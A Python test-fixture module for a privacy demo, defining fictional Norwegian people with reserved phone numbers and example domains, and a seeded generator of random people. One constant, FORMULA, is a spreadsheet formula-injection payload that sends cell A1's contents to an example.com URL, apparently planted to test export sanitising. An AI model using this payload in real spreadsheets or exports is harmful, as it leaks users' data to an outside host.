"""Invented people for the demo's systems: a few by name, whom tests know, and a crowd by chance.

Nobody here is real: every address is under example.com, .org or .no, telephone numbers begin with 01, which
the Norwegian numbering plan holds in reserve, and places and postcodes do not exist.
"""

import tomllib
from dataclasses import dataclass
from datetime import date, timedelta
from functools import cache
from pathlib import Path
from random import Random
from typing import Final


@dataclass(frozen=True, slots=True)
class Person:
    """Somebody who does not exist. `phone` is "+47 01 xx xx xx"."""

    name: str
    email: str
    phone: str
    street: str
    postcode: str
    city: str
    born: date

    @property
    def address(self) -> str:
        """The address on one line."""
        return f"{self.street}, {self.postcode} {self.city}"


def _planted(name: str, email: str, phone: str, street: str, born: date) -> Person:
    return Person(name, email, phone, street, "9995", "Eksempelvik", born)


KARI: Final = _planted(
    "Kari Eksempel", "kari.eksempel@example.no", "+47 01 23 45 67", "Eksempelalleen 1", date(1984, 5, 17)
)
"""In every company, with something in every holding; invoices in KEPT_YEARS and EXPIRED_YEARS."""

OLA: Final = _planted(
    "Ola Nabo Eksempel", "ola.nabo@example.no", "+47 01 23 45 67", "Eksempelalleen 1", date(1982, 11, 3)
)
"""Kari's family: same surname, address and telephone; neither may be shown what is the other's."""

NAMESAKE: Final = _planted(
    "Kari Eksempel", "kari.eksempel@example.org", "+47 01 76 54 32", "Prøvegata 22", date(1961, 2, 28)
)
"""Another Kari Eksempel: a name alone tells nobody apart."""

SUNNIVA: Final = _planted(
    "Sunniva Samtykke", "sunniva.samtykke@example.no", "+47 01 30 30 30", "Skinnvegen 7", date(1990, 8, 9)
)
"""Said yes to marketing, in every company that sends any."""

BJORN: Final = _planted(
    "Bjørn Ærlig D'Ålesund", "bjorn.dalesund@example.org", "+47 01 40 40 40", "Ærligveien 3", date(1975, 1, 2)
)
"""Letters and an apostrophe that break careless code."""

RANDI: Final = _planted(
    "Randi Regneark", "randi.regneark@example.com", "+47 01 50 50 50", "Tomtegata 11", date(1969, 12, 24)
)
"""Wrote FORMULA into a free-text field in every company."""

MONA: Final = _planted(
    "Mona Kunde", "mona.kunde@example.org", "+47 01 60 60 60", "Luftslottet 5", date(1995, 4, 30)
)
"""Only in systems where the company is processor: somebody else's customer (GDPR Art. 28)."""

TOR: Final = _planted("Tor Begge", "tor.begge@example.no", "+47 01 70 70 70", "Sagnvegen 9", date(1978, 6, 6))
"""Both: the company's own customer, and in the data of a customer of the company."""

NILS: Final = _planted(
    "Nils Ukjent", "nils.ukjent@example.no", "+47 01 80 80 80", "Blindveien 2", date(2000, 2, 29)
)
"""Nowhere: asks, and nothing is found."""

CUSTOMERS: Final = (KARI, OLA, NAMESAKE, SUNNIVA, BJORN, RANDI, TOR)
"""The planted people every company has as controller."""

PLANTED: Final = (*CUSTOMERS, MONA, NILS)

FORMULA: Final = '=HYPERLINK("https://example.com/?q="&A1;"Klikk her")'
"""What a spreadsheet would carry out if an export let it."""

KEPT_YEARS: Final = (0, 2, 5)
"""Years back from today's in which KARI has an invoice that the Bookkeeping Act, section 13, still locks."""

EXPIRED_YEARS: Final = (6, 8)
"""Years back in which KARI has an invoice whose five years after the accounting year are over."""


def crowd(seed: str, count: int) -> tuple[Person, ...]:
    """Invent `count` people; the same `seed` gives the same people. No e-mail address comes twice."""
    chance = Random(f"people:{seed}")  # noqa: S311 -- repeatable on purpose, secures nothing
    return tuple(_person(chance, number) for number in range(1, count + 1))


def main_contact(company: str) -> str:
    """The address of an invented company's main contact, the same one each time."""
    return f"hovedkontakt.{_plain(company.partition('(')[0])}@example.no"


def _person(chance: Random, number: int) -> Person:
    lists = _lists()
    given, family = chance.choice(lists["given"]), chance.choice(lists["family"])
    postcode, city = chance.choice(lists["places"]).split(" ", 1)
    return Person(
        name=f"{given} {family}",
        email=f"{_plain(given)}.{_plain(family)}{number}@example.{chance.choice(('no', 'com', 'org'))}",
        phone=f"+47 01 9{chance.randrange(10)} {chance.randrange(100):02} {chance.randrange(100):02}",
        street=f"{chance.choice(lists['streets'])} {chance.randrange(1, 90)}",
        postcode=postcode,
        city=city,
        born=date(1940, 1, 1) + timedelta(days=chance.randrange(24_000)),
    )


def _plain(name: str) -> str:
    spelt = name.casefold().translate({ord("æ"): "ae", ord("ø"): "o", ord("å"): "a"})
    return "".join(letter for letter in spelt if letter.isalpha())


@cache
def _lists() -> dict[str, list[str]]:
    found = tomllib.loads((Path(__file__).parent / "names.toml").read_text(encoding="utf-8"))
    return {kind: [str(one) for one in found[kind]] for kind in ("given", "family", "streets", "places")}
